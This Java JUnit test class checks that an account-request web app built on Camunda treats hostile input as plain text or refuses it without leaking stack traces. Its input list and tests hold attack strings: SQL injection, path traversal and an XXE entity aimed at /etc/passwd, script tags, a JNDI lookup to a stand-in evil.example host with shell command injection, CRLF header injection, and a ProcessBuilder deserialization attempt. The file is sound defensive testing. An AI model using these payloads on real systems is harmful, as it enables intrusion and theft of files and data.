package org.smartaccounts.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.smartaccounts.support.Tasklist.PAULA;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.smartaccounts.account.AccountStatus;
import org.smartaccounts.account.RequestDetails;
import org.smartaccounts.account.SmartAccounts;
import org.smartaccounts.account.StoredText;
import org.smartaccounts.request.ActivationLink;
import org.smartaccounts.request.ActivationLinks;
import org.smartaccounts.request.ProcessElements;
import org.smartaccounts.support.ApplicationTest;
import org.smartaccounts.support.RequestForm;
import org.smartaccounts.support.Visitor;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.web.util.HtmlUtils;

/** What people type that no form expects: it is kept as text, shown as text, or refused in words. It is never run, and breaks nothing. */
class NaughtyInputTest extends ApplicationTest {

    private static final String API = "/camunda/api/engine/engine/default";

    private static final List<String> NAUGHTY = List.of(
            "",
            " \t\u00a0\u3000\r\n ",
            "null",
            "undefined",
            "NaN",
            "true",
            "-0",
            "1e309",
            "0x7fffffffffffffffff",
            "2026-02-30T25:61:61Z",
            "9999-12-31",
            "👩‍👩‍👧‍👦🏳️‍🌈 ﷽",
            "\u202eEVIL\u202c \u2066x\u2069",
            "a\u200bb\u2060c\ufeffd",
            "z̸͎͝a̷̛̠l̶͙͝g̵̣̈o̵̡͌",
            "before\0after",
            "\u0001\u0007\u0008\u001b[31m\u007f\u0085",
            "\ud800 half \udc00",
            "line\r\nline\nline\rline\u2028line",
            "'; DROP TABLE smart_account; --",
            "\" OR \"\"=\"",
            "%s%n%n%d%x$1 {0} {1,number} {",
            "../../../../etc/passwd\\..\\..",
            "{\"variables\":{\"x\":{\"value\":[[[",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "${jndi:ldap://evil.example/x} $(id) `id` | id & id",
            "&lt;b&gt; &amp;amp; &#0; &#x1F600;",
            "İıſK ﬃ Straße",
            "x".repeat(70_000));

    private static final Pattern STACK_TRACE = Pattern.compile(
            "\\bat (org|java|jakarta|com)\\.|org\\.smartaccounts|(org|java|jakarta|com)\\.[a-z.]+\\.[A-Z]\\w*(Exception|Error)|PSQL|SQLSTATE");

    @Autowired
    RepositoryService repository;

    @Autowired
    TaskService tasks;

    @Autowired
    SmartAccounts accounts;

    @Autowired
    ActivationLinks links;

    private final ObjectMapper json =
            JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
    private final RequestForm form = RequestForm.forNewCustomer();

    @Test
    void theStartFormTakesEverythingAndTheReviewShowsItAsItWasTyped() {
        Visitor paula = loggedIn(PAULA);
        SoftAssertions softly = new SoftAssertions();
        for (String typed : NAUGHTY) {
            Map<String, String> fields = allFields(typed);
            HttpResponse<String> started = submit(paula, start(), fields);
            assertThat(started.statusCode()).as(named(typed)).isEqualTo(200);
            Task review = newestReview();

            HttpResponse<String> shown =
                    paula.get("%s/task/%s/form-variables?deserializeValues=false".formatted(API, review.getId()));
            String kept = StoredText.of(typed);
            RequestDetails tidy = RequestDetails.typed(kept, kept, kept, kept, kept, kept, kept, kept);
            softly.assertThat(values(shown))
                    .as(named(typed))
                    .containsEntry("accountName", inTheDatabase(tidy.accountName()))
                    .containsEntry("customerEmail", inTheDatabase(tidy.customerEmail()))
                    .containsEntry("accountDomain", inTheDatabase(tidy.accountDomain()))
                    .containsEntry("noteToCustomer", inTheDatabase(tidy.noteToCustomer()))
                    .containsEntry("userEmails", inTheDatabase(tidy.userEmails()))
                    .containsEntry("noteToUsers", inTheDatabase(tidy.noteToUsers()))
                    .containsEntry("requester", PAULA);
        }
        softly.assertAll();
    }

    @Test
    void theReviewRefusesInWordsOrTakesIt() {
        Visitor paula = loggedIn(PAULA);
        SoftAssertions softly = new SoftAssertions();
        for (String typed : NAUGHTY) {
            for (String decision : List.of("change", "submit", typed)) {
                String request = tasklist.request(PAULA, RequestForm.forNewCustomer());
                String task =
                        tasklist.task(request, ProcessElements.REVIEW_REQUEST).getId();
                Map<String, String> fields = allFields(typed);
                fields.put("reviewDecision", decision);

                HttpResponse<String> answer = submit(paula, API + "/task/" + task + "/submit-form", fields);

                softly.assertThat(answer.statusCode())
                        .as(named(decision + ": " + typed))
                        .isIn(200, 204, 400);
                softly.assertThat(answer.body()).doesNotContainPattern(STACK_TRACE);
                softly.assertThat(accounts.get(request).status()).isEqualTo(AccountStatus.IN_REVIEW);
            }
        }
        softly.assertAll();
    }

    @Test
    void theLoginRefusesEverythingAndKeepsTheName() {
        SoftAssertions softly = new SoftAssertions();
        for (String typed : NAUGHTY) {
            Visitor visitor = new Visitor(url);
            HttpResponse<String> page =
                    typed.length() > 50_000 ? visitor.logIn("paula", typed) : visitor.logIn(typed, typed);

            softly.assertThat(page.statusCode()).as(named(typed)).isEqualTo(401);
            softly.assertThat(page.body()).doesNotContainPattern(STACK_TRACE).doesNotContain("<script>alert");
            softly.assertThat(shownIn(page, "name=\"username\"[^>]*? value=\"([^\"]*)\""))
                    .as(named(typed))
                    .isEqualTo(typed.length() > 50_000 ? "paula" : inTheDatabase(typed));
            softly.assertThat(page.headers().map()).doesNotContainKey("x-evil");
        }
        softly.assertAll();
    }

    @Test
    void theActivationPageKeepsWhatItRefuses() {
        String request = pending();
        String link = "/activation/" + link(request);
        Visitor customer = new Visitor(url);
        SoftAssertions softly = new SoftAssertions();
        for (String typed : NAUGHTY) {
            HttpResponse<String> declined = customer.submit(
                    link, Map.of("decision", "decline", "reason", "x" + typed.strip(), "note", typed, "email", "e"));
            softly.assertThat(declined.statusCode()).as(named(typed)).isEqualTo(422);
            softly.assertThat(declined.body()).doesNotContainPattern(STACK_TRACE);
            String note =
                    inTheDatabase(typed.replace("\r\n", "\n").replace("\0", "").strip());
            softly.assertThat(shownIn(declined, "(?s)<textarea[^>]*>(.*?)</textarea>"))
                    .as(named(typed))
                    // More than a form may have.
                    .isEqualTo(typed.length() > 50_000 ? "" : note);

            HttpResponse<String> passedOn = customer.submit(link, Map.of("decision", "passOn", "email", typed));
            softly.assertThat(passedOn.statusCode()).as(named(typed)).isEqualTo(422);
            softly.assertThat(passedOn.body()).doesNotContainPattern(STACK_TRACE);
            String address = inTheDatabase(typed.replace("\0", "").strip());
            softly.assertThat(shownIn(passedOn, "(?s)name=\"email\"[^>]*? value=\"([^\"]*)\""))
                    .as(named(typed))
                    .isEqualTo(address.substring(0, Math.min(1000, address.length())));

            HttpResponse<String> neither = customer.submit(link, Map.of("decision", typed, "authorised", typed));
            softly.assertThat(neither.statusCode()).as(named(typed)).isEqualTo(422);
        }
        softly.assertAll();
        assertThat(accounts.get(request).status()).isEqualTo(AccountStatus.PENDING);
    }

    @Test
    void theNoteOfACustomerWhoDeclinesIsKeptAsItWasTyped() {
        String request = pending();
        String note = NAUGHTY.stream().filter(typed -> typed.length() < 200).collect(Collectors.joining("|"));

        HttpResponse<String> answer = new Visitor(url)
                .submit("/activation/" + link(request), Map.of("decision", "decline", "reason", "OTHER", "note", note));

        assertThat(answer.statusCode()).isEqualTo(303);
        assertThat(accounts.get(request).declineNote())
                .isEqualTo(inTheDatabase(
                        note.replace("\r\n", "\n").replace("\0", "").strip()));
        jobs.drain(request);
        assertThat(mailbox.about(request, "paula@alpine-reseller.example")).hasSize(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/login", "/activation/x", "/nowhere", "/camunda/app/tasklist/default/"})
    void noHeaderComesFromTheAddress(String page) {
        Visitor visitor = new Visitor(url);
        String evil = "it%0d%0aX-Evil:%201%0d%0a%0d%0a%3Cscript%3E";

        for (String query : List.of(
                "?language=" + evil, "?loggedOut=" + evil, "?" + evil + "=1", "?language=it&language=" + evil)) {
            HttpResponse<String> answer = visitor.get(page + query);
            assertThat(answer.statusCode()).as(query).isLessThan(500);
            assertThat(answer.headers().map()).doesNotContainKey("x-evil");
            assertThat(answer.headers().allValues("Set-Cookie")).noneMatch(cookie -> cookie.contains("X-Evil"));
            assertThat(answer.body()).doesNotContain("<script>");
        }
    }

    @Test
    void whatIsFarTooMuchIsRefused() {
        String link = "/activation/" + link(pending());
        String megabyte = "x".repeat(1_000_000);
        for (String page : List.of(link, "/activation/x", "/login", "/logout")) {
            for (String type : List.of(
                    "application/x-www-form-urlencoded",
                    "text/plain",
                    "application/json",
                    "multipart/form-data; boundary=b")) {
                Visitor visitor = new Visitor(url);
                HttpResponse<String> answer = visitor.send(HttpRequest.newBuilder(visitor.at(page))
                        .header("Content-Type", type)
                        .POST(BodyPublishers.ofString("decision=decline&reason=OTHER&note=" + megabyte)));
                assertThat(answer.statusCode()).as(page + " " + type).isBetween(400, 499);
                assertThat(answer.body()).doesNotContainPattern(STACK_TRACE);
            }
        }

        // Of a text, the beginning is kept; what is no text is refused.
        Visitor paula = loggedIn(PAULA);
        assertThat(submit(paula, start(), Map.of("accountName", megabyte.repeat(5)))
                        .statusCode())
                .isEqualTo(200);
        assertThat(tasks.getVariable(newestReview().getId(), "accountName")).isEqualTo("x".repeat(3999) + "…");
        HttpResponse<String> answer = paula.call("POST", start(), "[".repeat(5_000_000));
        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(answer.body()).doesNotContainPattern(STACK_TRACE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "multipart/form-data",
                "multipart/form-data; boundary=",
                "multipart/form-data; boundary=b",
                "application/x-www-form-urlencoded; charset=nonsense",
                "application/x-www-form-urlencoded; charset=UTF-16",
                "nonsense"
            })
    void aFormOfAnotherKindIsNone(String type) {
        String link = "/activation/" + link(pending());
        for (String page : List.of(link, "/activation/x", "/login", "/logout")) {
            Visitor visitor = new Visitor(url);
            HttpResponse<String> answer = visitor.send(HttpRequest.newBuilder(visitor.at(page))
                    .header("Content-Type", type)
                    .POST(BodyPublishers.ofString("--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n%zz")));
            assertThat(answer.statusCode()).as(page).isBetween(400, 499);
            assertThat(answer.body()).doesNotContainPattern(STACK_TRACE);
        }
    }

    @Test
    void whatIsNoTextIsNotMadeAnObject() {
        Visitor paula = loggedIn(PAULA);
        for (String format : List.of("application/x-java-serialized-object", "application/json", "application/xml")) {
            HttpResponse<String> answer = paula.call("POST", start(), """
                    {"variables": {"accountName": {"value": "rO0ABXQAAXg=", "type": "Object", "valueInfo":
                        {"objectTypeName": "java.lang.ProcessBuilder", "serializationDataFormat": "%s"}}}}""".formatted(format));
            assertThat(answer.statusCode()).as(format).isGreaterThanOrEqualTo(400);
        }
        for (String value : List.of("1e309", "[[]]", "{\"a\":{}}", "true", "null")) {
            HttpResponse<String> answer =
                    paula.call("POST", start(), "{\"variables\":{\"accountName\":{\"value\":%s}}}".formatted(value));
            assertThat(answer.statusCode()).as(value).isIn(200, 400);
            assertThat(answer.body()).doesNotContainPattern(STACK_TRACE);
        }
    }

    private String start() {
        return "%s/process-definition/%s/submit-form"
                .formatted(
                        API,
                        repository
                                .createProcessDefinitionQuery()
                                .processDefinitionKey(ProcessElements.PROCESS)
                                .latestVersion()
                                .singleResult()
                                .getId());
    }

    private static Map<String, String> allFields(String typed) {
        return new TreeMap<>(Stream.of(
                        "accountName",
                        "customerEmail",
                        "accountDomain",
                        "noteToCustomer",
                        "userEmails",
                        "noteToUsers",
                        "customerLanguage")
                .collect(Collectors.toMap(field -> field, field -> typed)));
    }

    private HttpResponse<String> submit(Visitor visitor, String path, Map<String, String> fields) {
        Map<String, Object> variables = new TreeMap<>();
        fields.forEach((name, value) -> variables.put(name, Map.of("value", value, "type", "String")));
        try {
            return visitor.call("POST", path, json.writeValueAsString(Map.of("variables", variables)));
        } catch (JsonProcessingException e) {
            throw new AssertionError(e);
        }
    }

    private Map<String, String> values(HttpResponse<String> variables) {
        try {
            Map<String, String> values = new TreeMap<>();
            for (Map.Entry<String, JsonNode> variable :
                    json.readTree(variables.body()).properties()) {
                values.put(variable.getKey(), variable.getValue().path("value").asText());
            }
            return values;
        } catch (JsonProcessingException e) {
            throw new AssertionError(e);
        }
    }

    private Task newestReview() {
        return tasks.createTaskQuery()
                .taskAssignee(PAULA)
                .taskDefinitionKey(ProcessElements.REVIEW_REQUEST)
                .orderByTaskCreateTime()
                .desc()
                .list()
                .get(0);
    }

    private String pending() {
        String request = tasklist.submit(PAULA, form);
        jobs.drain(request);
        return request;
    }

    private String link(String request) {
        String path = links.to(new ActivationLink(request, 1)).getPath();
        return path.substring(path.lastIndexOf('/') + 1);
    }

    /** For a message: the beginning, on one line. */
    private static String named(String typed) {
        return typed.substring(0, Math.min(60, typed.length())).replaceAll("[^ -~]", "?");
    }

    /** Half of a character is none. */
    private static String inTheDatabase(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
    }

    private static String shownIn(HttpResponse<String> page, String pattern) {
        Matcher shown = Pattern.compile(pattern).matcher(page.body());
        return shown.find() ? HtmlUtils.htmlUnescape(shown.group(1)) : "nothing at " + pattern;
    }
}
